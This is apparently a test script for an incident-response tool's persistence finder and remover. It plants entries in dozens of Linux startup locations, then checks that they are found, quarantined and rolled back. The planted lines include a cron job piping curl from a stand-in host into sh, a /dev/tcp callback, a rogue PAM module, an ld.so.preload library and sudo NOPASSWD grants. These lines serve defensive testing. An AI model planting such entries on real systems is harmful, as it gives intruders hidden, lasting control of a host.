#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
#
# persist.find, persist.remove: an entry in every place from which programs are started,
# among honest ones. Planned, removed, looked for again, and taken back file by file. All
# entries lead to a file that does nothing, and nothing here runs them.
set -u
range_seconds=600
. "$TOP_SRCDIR/tests/range/host.sh"
enter_range "$@"
install_respond

evil=/opt/.x/agent
server=203.0.113.67
export ASAN_OPTIONS="${ASAN_OPTIONS:+$ASAN_OPTIONS:}verify_asan_link_order=0" # a library is preloaded below
pam_dir=/usr/lib/$(uname -m)-linux-gnu/security
home=/home/alice

# ---- the host, before the intruder --------------------------------------------------------

# Paths that the packages of the staged host own.
owned() {
	mkdir -p /var/lib/dpkg/info
	printf '%s\n' "${@:2}" >"/var/lib/dpkg/info/$1.list"
}

# place FILE MODE: what is read from standard input.
place() {
	mkdir -p "${1%/*}"
	cat >"$1"
	chmod "$2" "$1"
}

useradd --create-home --shell /bin/bash alice
rm -f /etc/crontab /etc/anacrontab /etc/rc.local /etc/ld.so.preload /etc/sudoers
place /etc/inetd.conf 0644 <<<'# services of inetd'
place /etc/crontab 0644 <<<'17 * * * * root run-parts /etc/cron.hourly'
place /etc/anacrontab 0644 <<<'1 5 cron.daily run-parts /etc/cron.daily'
place /etc/cron.d/php 0644 <<<'9 * * * * root /usr/bin/curl -s https://status.example/'
place /var/spool/cron/crontabs/root 0600 <<<'30 2 * * * /usr/local/sbin/backup'
place /var/spool/cron/crontabs/alice 0600 <<<'@daily echo hello'
place /etc/rc.local 0755 <<<$'#!/bin/sh -e\nexit 0'
place /etc/profile.d/locale.sh 0644 <<<'export LC_ALL=C.UTF-8'
place /root/.bashrc 0644 <<<"alias ll='ls -l'"
place $home/.profile 0644 <<<'umask 022'
place /etc/sudoers 0440 <<<$'root ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d'
place /etc/sudoers.d/alice 0440 <<<'alice ALL=(root) /usr/bin/apt-get'
place /etc/pam.d/su 0644 <<<$'auth [success=2 default=ignore] pam_unix.so\nauth requisite pam_deny.so\nauth required pam_permit.so'
place /etc/udev/rules.d/70-net.rules 0644 <<<'SUBSYSTEM=="net", ATTR{address}=="02:00:00:00:00:01", NAME="lan0"'
place /etc/modules-load.d/loop.conf 0644 <<<'loop'
place /etc/logrotate.d/app 0644 <<<$'/var/log/app.log {\n\tweekly\n\tpostrotate\n\t\tkill -HUP $(cat /run/app.pid)\n\tendscript\n}'
place /etc/apt/apt.conf.d/20listchanges 0644 <<<'DPkg::Pre-Install-Pkgs { "/usr/bin/apt-listchanges --apt || test $? -lt 10"; };'
place /etc/systemd/system/honest.service 0644 <<<$'[Service]\nExecStart=/usr/sbin/honest\n[Install]\nWantedBy=multi-user.target'
place /usr/lib/systemd/system/vendor.service 0644 <<<$'[Service]\nExecStart=/usr/sbin/vendor'
place /usr/lib/udev/rules.d/60-vendor.rules 0644 <<<'ACTION=="add", KERNEL=="vendor", MODE="0600"'
place /etc/init.d/vendor 0755 <<<$'#!/bin/sh\n/usr/sbin/vendor'
place $pam_dir/pam_unix.so 0644 <<<x
place /srv/site/.git/HEAD 0644 <<<'ref: refs/heads/main'
place /srv/site/.git/hooks/pre-commit 0755 <<<$'#!/bin/sh\nmake check'
owned cron /etc/crontab
owned vendor /usr/lib/systemd/system/vendor.service /usr/lib/udev/rules.d/60-vendor.rules /etc/init.d/vendor
owned libpam-modules $pam_dir/pam_unix.so $pam_dir/pam_deny.so $pam_dir/pam_permit.so
owned sudo /etc/sudoers

everything() {
	describe_files /etc /opt/.x /root/.bashrc $home /srv/site /var/spool/cron /usr/lib/systemd/system/vendor.service \
		/usr/lib/udev/rules.d $pam_dir/pam_unix.so $pam_dir/pam_login.so /usr/local/lib/libhide.so 2>/dev/null |
		grep -v ' /*/etc/respond/\|^/etc/respond/'
}
honest=$(everything)

# ---- what the intruder left ---------------------------------------------------------------

# A line more in a file of others; and a file that is nothing but the entry.
declare -A added
add() {
	added[$1]=$(cat)
	printf '%s\n' "${added[$1]}" >>"$1"
}
new=()
put() {
	new+=("$1")
	place "$1" "${2:-0755}"
}
script=$'#!/bin/sh\n'$evil

place $evil 0755 <<<$'#!/bin/sh\nexit 0'
place $pam_dir/pam_login.so 0644 <<<x
cp -L "/usr/lib/$(uname -m)-linux-gnu/libdl.so.2" /usr/local/lib/libhide.so
add /etc/crontab <<<"* * * * * root $evil"
add /etc/cron.d/php <<<"*/5 * * * * root /usr/bin/curl -s http://$server/m.sh | sh"
add /etc/anacrontab <<<"1 9 update $evil"
add /var/spool/cron/crontabs/root <<<"@reboot $evil >/dev/null 2>&1"
add /var/spool/cron/crontabs/alice <<<"@reboot $evil"
put /etc/cron.hourly/update <<<"$script"
put /etc/cron.daily/.hidden <<<"$script"
put /var/spool/cron/atjobs/a0000101c3b2f8 0700 <<<"$script"
put /etc/systemd/system/update.service 0644 <<<$'[Service]\nExecStart='$evil$'\nRestart=always\n[Install]\nWantedBy=multi-user.target\nAlso=honest.service'
put /etc/systemd/system/update.timer 0644 <<<$'[Timer]\nOnBootSec=60\n[Install]\nWantedBy=timers.target'
put /etc/systemd/system/vendor.service.d/override.conf 0644 <<<$'[Service]\nExecStartPost='$evil
put /etc/systemd/system-generators/update <<<"$script"
put $home/.config/systemd/user/update.service 0644 <<<$'[Service]\nExecStart='$evil
put /etc/init.d/update <<<"$script"
put /etc/profile.d/update.sh 0644 <<<"$evil &"
put /etc/update-motd.d/99-update <<<"$script"
put /etc/xdg/autostart/update.desktop 0644 <<<$'[Desktop Entry]\nType=Application\nExec='$evil
put /etc/NetworkManager/dispatcher.d/99-update <<<"$script"
put /etc/udev/rules.d/99-update.rules 0644 <<<"ACTION==\"add\", RUN+=\"$evil\""
put /etc/ld.so.preload 0644 <<<'/usr/local/lib/libhide.so'
put /etc/sudoers.d/update 0440 <<<"alice ALL=(root) NOPASSWD: $evil"
put /etc/apt/apt.conf.d/99update 0644 <<<"APT::Update::Pre-Invoke { \"$evil\"; };"
put /srv/site/.git/hooks/post-merge <<<"$script"
add /etc/udev/rules.d/70-net.rules <<<"SUBSYSTEM==\"net\", RUN+=\"$evil\""
add /etc/modules-load.d/loop.conf <<<"$evil"
add /etc/sudoers.d/alice <<<"alice ALL=(root) NOPASSWD: $evil"
add /root/.bashrc <<<"nohup $evil >/dev/null 2>&1 &"
add $home/.profile <<<"(exec 3<>/dev/tcp/$server/443) &"
sed -i "/^exit/i $evil" /etc/rc.local
sed -i "/postrotate/a $evil" /etc/logrotate.d/app
put $home/.forward 0644 <<<"|$evil"
add /etc/inetd.conf <<<"9999 stream tcp nowait root $evil agent"
sed -i '/pam_unix/a auth sufficient pam_login.so' /etc/pam.d/su
sed -i 's/success=2/success=3/' /etc/pam.d/su
mkdir -p /etc/systemd/system/{multi-user,timers}.target.wants /etc/rc2.d
links="/etc/systemd/system/multi-user.target.wants/update.service /etc/systemd/system/timers.target.wants/update.timer
	/etc/rc2.d/S01update"
ln -s /etc/systemd/system/update.service /etc/systemd/system/multi-user.target.wants/update.service
ln -s /etc/systemd/system/honest.service /etc/systemd/system/multi-user.target.wants/honest.service
ln -s /etc/systemd/system/update.timer /etc/systemd/system/timers.target.wants/update.timer
ln -s ../init.d/update /etc/rc2.d/S01update
# In files of packages: a line below /etc goes, the others are left to people.
add /etc/init.d/vendor <<<"$evil &"
printf 'ExecStartPost=%s\n' $evil >>/usr/lib/systemd/system/vendor.service
printf 'ACTION=="add", RUN+="%s"\n' $evil >>/usr/lib/udev/rules.d/60-vendor.rules
# What only mentions it.
printf '# blocked: %s\n' $evil >>/etc/profile.d/locale.sh
incident=$(everything)

# ---- looking ------------------------------------------------------------------------------

playbook() {
	printf '%s\n' '[playbook]' 'name = t' 'description = a test' '[step it]' "$@" >$playbooks/t.pb
}
what=("references = $evil, $server, $pam_dir/pam_login.so, /usr/local/lib/libhide.so" 'tree = /srv')

playbook 'action = persist.find' "${what[@]}"
run_respond --playbook t.pb
ended "find: nothing is to be done" 0
same "find: and nothing is" "$incident" "$(everything)"
says "find: the place, the line and why" "/etc/crontab (the system's crontab), line 2: names $evil"
says "find: the package that owns the file" "the file belongs to the package cron"
says "find: what only mentions it is told" "/etc/profile.d/locale.sh (a script of every login), line 2: names $evil, in a comment only"

playbook 'action = persist.remove' "${what[@]}"
touched=$(every_file)
run_respond --playbook t.pb --dry-run
ended "a dry run says what is pending" 5
same "and writes nothing" "$touched" "$(every_file)"
plan=$output
every_entry_is_planned() {
	local file lost=0
	for file in "${!added[@]}" /etc/rc.local /etc/pam.d/su /etc/logrotate.d/app; do
		grep -qF -- "~ edit $file (" <<<"$plan" || { echo "no edit of $file"; lost=1; }
	done
	for file in "${new[@]}"; do
		grep -qF -- "- quarantine $file (" <<<"$plan" || { echo "$file stays"; lost=1; }
	done
	return $lost
}
check "the plan has every entry" every_entry_is_planned
says "a line of a user's file, and why" "$home/.profile (a shell's start or logout file), line 2: holds $server"
says "a timer goes with what it starts" "update.timer (a unit): it starts update.service"
says "the file of a package that is left" "/usr/lib/systemd/system/vendor.service belongs to the package vendor"
line_of() {
	grep -nF -- "$1" <<<"$plan" | head -n 1 | cut -d: -f1
}
check "a unit is disabled before its file goes" test "$(line_of '~ disable update.service')" -lt \
	"$(line_of '- quarantine /etc/systemd/system/update.service')"
check "a timer goes before its unit" test "$(line_of '- quarantine /etc/systemd/system/update.timer')" -lt \
	"$(line_of '- quarantine /etc/systemd/system/update.service')"
check_not "what the unit names beside is left alone" grep -qF 'disable honest.service' <<<"$plan"

# ---- removing -----------------------------------------------------------------------------

run_respond --playbook t.pb
ended "removed; what packages own is residual" 3
run=$(last_run)
only_the_entries_went() {
	local file lost=0
	for file in "${new[@]}" $links; do
		if [ -e "$file" ] || [ -L "$file" ]; then echo "$file is there"; lost=1; fi
	done
	return $lost
}
check "every file that was nothing but an entry has gone, with its links" only_the_entries_went
# What is left is the honest host with the programs, the directories that were made and
# what only people may clean.
left() {
	everything | grep -v -e " d[0-7]* " -e ' d 7' | grep -E '^/[^ ]+ [fl] |^[0-9a-f]{64} ' |
		grep -vE "($evil|pam_login.so|libhide.so|vendor.service|60-vendor.rules|locale.sh|wants/honest.service)"
}
honest_left() {
	grep -E '^/[^ ]+ [fl] |^[0-9a-f]{64} ' <<<"$honest" |
		grep -vE "($evil|pam_login.so|libhide.so|vendor.service|60-vendor.rules|locale.sh|wants/honest.service)"
}
same "all other files are as they were before the intruder" "$(honest_left)" "$(left)"
same "a stack of PAM counts its jumps anew" 'auth [success=2 default=ignore] pam_unix.so' "$(head -n 1 /etc/pam.d/su)"
check "sudo is content" visudo -c -q
check "the file of a package is as the intruder left it" grep -qF "ExecStartPost=$evil" /usr/lib/systemd/system/vendor.service
check "a comment is left" grep -qF "# blocked: $evil" /etc/profile.d/locale.sh
check "an honest unit stays enabled" test -L /etc/systemd/system/multi-user.target.wants/honest.service
check "the program itself is left" test -x $evil
run_respond --verify last
ended "it is in force" 0

# ---- again, and back ----------------------------------------------------------------------

clean=$(everything)
run_respond --playbook t.pb --dry-run
check_not "a second time nothing is found" grep -qE '^ +[-~+!] ' <<<"$output"
run_respond --playbook t.pb
same "and nothing is done" "$clean" "$(everything)"
run_respond --rollback "$run"
ended "taken back" 0
same "every file is as it was found" "$incident" "$(everything)"

# The line of $order that names it first, as a change.
first_of() {
	grep -nE -- "$1( |\$)" <<<"$order" | head -n 1 | cut -d: -f1
}

# ---- the playbook that ships --------------------------------------------------------------

run_respond --playbook footholds.pb --set "references=$evil,$server,$pam_dir/pam_login.so,/usr/local/lib/libhide.so" \
	--set trees=/srv --set "programs=$evil,/usr/local/lib/libhide.so"
ended "footholds.pb: done" 3
check_not "footholds.pb: the programs have gone, too" ls $evil /usr/local/lib/libhide.so
check "footholds.pb: after what led to them" test "$(grep -nF "quarantine $evil" <<<"$output" | head -n 1 | cut -d: -f1)" -gt \
	"$(grep -nF 'edit /etc/crontab' <<<"$output" | head -n 1 | cut -d: -f1)"
order=$(grep -vE '^ {6}' <<<"$output")
check "footholds.pb: the library goes after its entry" test "$(first_of /etc/ld.so.preload)" -lt "$(first_of libhide.so)"
run_respond --rollback last
ended "footholds.pb: taken back" 0
order=$output
check "footholds.pb: and comes back before it" test "$(first_of libhide.so)" -lt "$(first_of /etc/ld.so.preload)"
same "footholds.pb: every file is as it was found" "$incident" "$(everything)"

# ---- what is not taken --------------------------------------------------------------------

# By a lease on a file of his own an unprivileged user keeps others from reading it. That holds
# up nothing but this one file, and is told.
echo "$evil &" >>$home/.profile
echo "$evil &" >>/root/.bashrc
mount -t tmpfs leased /mnt # the kernel names a file of an overlay otherwise
install -o alice -m 0644 $home/.profile /mnt/.profile
usermod --home /mnt alice
install -m 0755 "$TOP_BUILDDIR/tests/range/leaseholder" /usr/local/bin
RANGE_DEADLINE=$(($(date +%s) + range_seconds)) setpriv --reuid alice --regid alice --clear-groups leaseholder /mnt/.profile \
	>$scratch/leased &
holder=$!
check "leased: it is" await grep -q held $scratch/leased
playbook 'action = persist.remove' "references = $evil"
run_respond --playbook t.pb
ended "leased: the others are done, and it is left" 3
check_not "leased: the others are" grep -qF $evil /root/.bashrc
check "leased: who holds it is told" grep -qE '^left: .*cannot read /mnt/\.profile: process [0-9]+ has a lease on it' <<<"$output"
kill $holder
wait $holder 2>/dev/null
run_respond --playbook t.pb
says "leased: no longer" "edit /mnt/.profile"
check_not "leased: it is done" grep -qF $evil /mnt/.profile

# A file of sudo that is wrong without the line, too, is not put in place.
place /etc/sudoers.d/broken 0440 <<<$'alice ALL=(root\nbob ALL=(root) /opt/.x/other'
cp -a /etc/sudoers.d/broken $scratch/broken
playbook 'action = persist.remove' 'references = /opt/.x/other'
run_respond --playbook t.pb
ended "an edit that visudo refuses is not done" 1
says "in its own words" "visudo: "
check "and the file is as it was" cmp /etc/sudoers.d/broken $scratch/broken
playbook 'action = persist.remove' 'references = /'
run_respond --playbook t.pb --dry-run
check "a reference that means everything is an error" grep -qF '/ would match' <<<"$output"
playbook 'action = persist.remove' "references = $pam_dir/pam_unix.so"
run_respond --playbook t.pb --dry-run
says "what a package owns tells no entry" "belongs to the package libpam-modules: no entry is told by it"
check_not "so nothing is planned" grep -qE '^ +[-~+!] ' <<<"$output"
finish
